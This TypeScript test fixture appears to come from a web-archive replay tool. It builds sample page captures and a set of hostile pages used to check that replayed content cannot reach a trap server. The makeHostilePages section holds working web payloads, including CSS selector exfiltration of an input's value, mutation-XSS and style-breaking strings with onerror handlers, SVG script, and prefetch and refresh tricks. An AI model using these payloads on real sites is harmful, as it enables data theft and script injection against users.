// Generates captures of a page with every kind of resource, and of pages that try to contact a server.
import { existsSync, readFileSync } from 'node:fs';
import { crc32, deflateSync } from 'node:zlib';
import type { HostileCapture } from '../hostile-captures.ts';

export const MADE_SITE = 'http://pages.example/';
const FONT = '/usr/share/fonts/truetype/dejavu/DejaVuSerif-Bold.ttf';

/** Whether this machine has the font that the page uses. */
export const hasFont = existsSync(FONT);

const capture = (
  path: string,
  type: string,
  body: string | Buffer,
  more: { date?: string; head?: string[] } = {},
): HostileCapture => ({
  ...{ name: path, url: `${MADE_SITE}${path}`, body: Buffer.from(body) },
  head: [`Content-Type: ${type}`, ...(more.head ?? [])],
  date: more.date ?? '2021-05-05T05:05:05Z',
});

/**
 * Generates the captures of a page. Each image has a different width, which identifies the image that the browser
 * shows.
 */
export function makePageCaptures(): HostileCapture[] {
  const page = [
    '<!doctype html><html><head><title>Journal of Tides</title><link rel=stylesheet href=css/main.css>',
    '<link rel=stylesheet media=print href=css/none.css><script>document.title="ran"</script></head><body>',
    '<h1>Journal of Tides</h1><img id=plain src=img/11.png alt=chart><img id=set src=img/none.png srcset="img/12.png 800w, img/13.png 4000w" sizes=800px>',
    '<picture><source type=image/webp srcset=img/none.webp><img id=picture src=img/14.png></picture>',
    '<img id=lazy src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" data-src=img/15.png>',
    '<img id=moved src=img/moved.png><img id=drawing src=img/drawing.svg><img id=missing src=img/missing.png alt="not captured">',
    '<p id=background>Background</p><p id=imported>Imported</p><p id=font>Font</p>',
    '<iframe id=frame src=frame.html width=300 height=80></iframe><table bgcolor=#eeeeee><tr><td>a<td>b</table>',
    '<form action=search><input name=q value=tides><button>Search</button></form>',
    '<p><a id=link href="volume/2.html?a=b&amp;c=d">Next volume</a> <a id=part href="#end">End</a></p><p id=end>The end</p></body></html>',
  ].join('\n');
  const main = [
    '@charset "utf-8";',
    '@import url("imported.css") screen;',
    'body{font:16px sans-serif;margin:2em}',
    '#background{background:url(../img/16.png) repeat;padding:1em}',
    '@font-face{font-family:Captured;src:url("../none.woff2") format("woff2"),url("../font.ttf") format("truetype")}',
    '#font{font-family:Captured}',
  ].join('\n');
  const drawing =
    '<svg xmlns="http://www.w3.org/2000/svg" width="17" height="9"><rect width="17" height="9" fill="teal"/></svg>';
  return [
    capture('tides/index.html', 'text/html; charset=utf-8', page),
    capture('tides/css/main.css', 'text/css', main),
    capture('tides/css/imported.css', 'text/css', '#imported{color:rgb(1, 2, 3)}'),
    ...[11, 12, 13, 14, 15, 16].map((width) =>
      capture(`tides/img/${width}.png`, 'image/png', makeColouredPng(width, 9)),
    ),
    { ...capture('tides/img/moved.png', 'text/html', ''), head: ['Location: 18.png'], status: '301 Moved' },
    capture('tides/img/18.png', 'image/png', makeColouredPng(18, 9)),
    capture('tides/img/drawing.svg', 'image/svg+xml', drawing),
    capture(
      'tides/frame.html',
      'text/html',
      '<p id=inside style="color:rgb(4, 5, 6)">Inside</p><img id=framed src=img/11.png>',
    ),
    ...(hasFont ? [capture('tides/font.ttf', 'font/ttf', readFileSync(FONT))] : []),
    capture('tides/volume/2.html?a=b&c=d', 'text/html', '<h1>Volume 2, 2019</h1>', {
      date: '2019-01-01T00:00:00Z',
    }),
    capture('tides/volume/2.html?a=b&c=d', 'text/html', '<h1>Volume 2, 2021</h1>', {
      date: '2021-06-01T00:00:00Z',
    }),
  ];
}

/** Returns a PNG of one colour, which depends on the width. */
export function makeColouredPng(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const row = Buffer.concat([
    Buffer.from([0]),
    Buffer.alloc(width * 3, Buffer.from([20 * (width - 10), 120, 160])),
  ]);
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type), data]);
    const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(data.length);
    check.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, check]);
  };
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.concat(Array.from({ length: height }, () => row)))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/**
 * Generates pages that try to contact the trap server, each in a different way. `trap`: URL of the server, which ends
 * with `/`.
 */
export function makeHostilePages(trap: string): HostileCapture[] {
  const host = trap.replace(/^http:/, '').replace(/\/$/, '');
  const hostile: Record<string, string> = {
    preconnect: `<link rel=preconnect href="${trap}"><link rel="preconnect" href="${host}" crossorigin>`,
    'dns-prefetch': `<meta http-equiv=x-dns-prefetch-control content=on><link rel=dns-prefetch href="${trap}"><link rel=prefetch href="${trap}"><link rel=modulepreload href="${trap}"><link rel=prerender href="${trap}">`,
    'speculation rules': `<script type=speculationrules>{"prefetch":[{"urls":["${trap}"]}]}</script>`,
    frames: `<iframe src="${trap}"></iframe><iframe srcdoc="<iframe src='${trap}'></iframe>"></iframe><object data="${trap}"></object><embed src="${trap}">`,
    'css exfiltration': `<style>input[value^=s]{background:url(${trap}s)}input[value^=t]{background:url("${trap}t")}p{list-style:u\\72l(${trap}u)}p::before{content:image-set("${trap}v" 1x)}</style><input value=secret><p>a`,
    'css imports': `<style>@import "${trap}a";@import url(${trap}b) layer(c) supports(display:block) screen;@\\69mport '${trap}d';</style>`,
    'css fonts': `<style>@font-face{font-family:X;src:url(${trap}f)}p{font-family:X}</style><p>text`,
    'end of style': `<style>p::after{content:"</style><img src=${trap}1>"}/*</style><iframe src="${trap}2"></iframe>*/</style><select><style></select><img src=${trap}3></style></select>`,
    mutation: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${trap}m onerror=alert(1)&gt;"></table></mtext></math><form><math><mtext></form><form><mglyph><style></math><img src=${trap}n>`,
    svg: `<img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='${trap}s'/%3E%3Cscript%3Ealert(1)%3C/script%3E%3C/svg%3E"><svg><image href="${trap}i"/><use href="${trap}u#x"/></svg>`,
    'long urls': `<img src="${trap}${'x'.repeat(8_192)}"><a href="${trap}${'y'.repeat(8_192)}">a</a><style>p{background:url(${trap}${'z'.repeat(8_192)})}</style><p>a`,
    media: `<video src="${trap}v" poster="${trap}p" autoplay></video><audio src="${trap}a" autoplay></audio><body background="${trap}b">`,
    forms: `<form action="${trap}" id=f><input type=image src="${trap}i" autofocus><button form=f formaction="${trap}">a</button></form>`,
    refresh: `<meta http-equiv=refresh content="0;url=${trap}r"><base href="${trap}"><img src=relative.png>`,
    nested: '<div>'.repeat(100_000),
  };
  return Object.entries(hostile).map(([name, body]) => ({
    ...{
      name,
      url: `http://hostile.example/pages/${encodeURIComponent(name)}`,
      head: ['Content-Type: text/html'],
    },
    body: Buffer.from(`<!doctype html><title>${name}</title>${body}<p>The end of the page</p>`),
  }));
}
